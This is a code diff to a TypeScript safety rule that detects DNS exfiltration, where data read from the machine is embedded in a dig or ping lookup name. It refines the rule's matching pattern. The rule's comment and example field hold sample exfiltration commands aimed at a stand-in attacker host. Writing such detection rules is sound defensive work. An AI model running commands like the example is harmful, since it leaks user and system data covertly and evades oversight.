@@ -132,7 +132,11 @@ export const credentialRules: SafetyRule[] = [
     id: "dns-exfiltration",
     commands: DNS_AND_PING,
     level: "high",
-    matches: (context) => context.args.some((word) => READS_DATA.test(word)),
+    // The data must go into a name being looked up (`$(whoami).attacker.example`), not be the name itself.
+    matches: (context) =>
+      context.args.some(
+        (word) => READS_DATA.test(word) && /[)`]\.[A-Za-z0-9-]+\.|\.[A-Za-z]{2,}$/.test(word),
+      ),
     message: "Puts data read from this machine into a DNS or ping request, a way to send it out unnoticed.",
     example: "dig $(whoami).$(hostname).attacker.example",
   },
